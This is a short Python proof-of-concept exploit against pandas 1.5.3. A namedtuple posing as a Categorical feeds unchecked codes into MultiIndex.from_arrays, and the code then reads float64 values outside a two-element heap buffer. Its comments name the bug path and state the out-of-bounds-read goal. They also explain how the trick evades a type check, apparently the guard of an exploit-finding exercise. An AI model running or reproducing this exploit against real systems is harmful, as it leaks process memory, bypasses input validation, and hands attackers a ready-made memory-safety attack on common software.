# source: pandas 1.5.3 pandas/core/arrays/categorical.py factorize_from_iterable (trusts values.codes when is_categorical_dtype(values)); indexes/multi.py from_arrays (verify_integrity=False) and MultiIndex._values -> algos.take_nd (Cython, boundscheck off)
# family: duck-typed categorical: a namedtuple whose field "dtype" is a CategoricalDtype passes for a Categorical; its unchecked codes index memory (not in the round focus: the check refuses a class defining "dtype", but not a namedtuple field of that name)
# goal: out-of-bounds heap read: codes 100, 120, -100 read float64s before/after a 2-element buffer
import collections
import numpy as np
import pandas as pd

Fake = collections.namedtuple("Fake", "dtype categories codes ordered")
kind = pd.CategoricalDtype([0.5, 1.5])
codes = np.array([0, 1, 100, 120, -100], dtype=np.int8)
mi = pd.MultiIndex.from_arrays([Fake(kind, kind.categories, codes, False)])
print(mi.values)
